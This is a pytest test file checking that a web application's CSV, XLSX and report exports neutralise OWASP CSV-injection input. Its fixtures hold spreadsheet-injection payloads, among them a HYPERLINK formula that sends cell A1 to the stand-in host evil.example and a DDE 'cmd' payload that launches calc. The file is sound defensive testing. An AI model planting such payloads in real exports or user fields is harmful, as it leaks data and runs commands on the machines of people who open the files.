"""Exports and reports never hand a spreadsheet a formula that came from someone's typing (OWASP
CSV injection): text starting with = + - @ tab or CR is shown, not run; real numbers stay numbers."""

import csv
import datetime as dt
import io

from openpyxl import load_workbook

from server.extensions import db
from server.models import User
from tests.server.world import make_house, make_units, make_user, sign_in, unit

NAMES = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0",
         "@SUM(1,1)", "\t=1+1", "\r=1+1", "Nguyễn Văn An"]


def _world():
    make_units()
    make_user("manager", "manager", "49")
    for i, name in enumerate(NAMES):
        make_house("20968", name=name, lat=-12.5 - i, lon=108.6)
    db.session.commit()


def test_csv_cells_starting_like_a_formula_are_text(app):
    _world()
    c = sign_in(app.test_client(), "manager")
    r = c.get("/exports/houses.csv?unit=49&labels=codes")
    assert r.status_code == 200
    rows = list(csv.DictReader(io.StringIO(r.get_data(as_text=True).lstrip("\ufeff"), newline="")))
    names = [row["head_name"] for row in rows]
    assert names == ["'" + n for n in NAMES[:-1]] + ["Nguyễn Văn An"]
    assert [row["lat"] for row in rows] == [str(-12.5 - i) for i in range(len(NAMES))]  # numbers stay numbers


def test_xlsx_export_keeps_them_as_text(app):
    _world()
    c = sign_in(app.test_client(), "manager")
    ws = load_workbook(io.BytesIO(c.get("/exports/houses.xlsx?unit=49&labels=codes").data)).active
    head = [cell.value for cell in ws[1]]
    col, lat = head.index("head_name"), head.index("lat")
    rows = list(ws.iter_rows(min_row=2))
    assert [row[col].value for row in rows] == [n.replace("\r", "\n") for n in NAMES]  # XML reads a CR as LF
    assert {row[col].data_type for row in rows} == {"s"}
    assert rows[0][lat].value == -12.5 and rows[0][lat].data_type == "n"


def test_report_unit_names_and_signer_are_text(app):
    _world()
    unit("517").name = "=HYPERLINK(\"http://evil.example\",\"x\")"
    db.session.scalar(db.select(User).where(User.username == "manager")).full_name = "@SUM(1,1)"
    db.session.commit()
    c = sign_in(app.test_client(), "manager")
    r = c.get(f"/reports/download?kind=year_end&year={dt.date.today().year}&unit=49")
    assert r.status_code == 200
    ws = load_workbook(io.BytesIO(r.data)).active
    cells = {cell.value: cell for row in ws.iter_rows() for cell in row if isinstance(cell.value, str)}
    for text in ('=HYPERLINK("http://evil.example","x")', "@SUM(1,1)"):
        assert cells[text].data_type == "s", text


def test_csv_cell_leaves_numbers_alone():
    from server.services.reports.spreadsheet_text import csv_cell

    assert csv_cell(-5) == -5 and csv_cell(-2.5) == -2.5 and csv_cell("-5") == "'-5" and csv_cell("") == ""
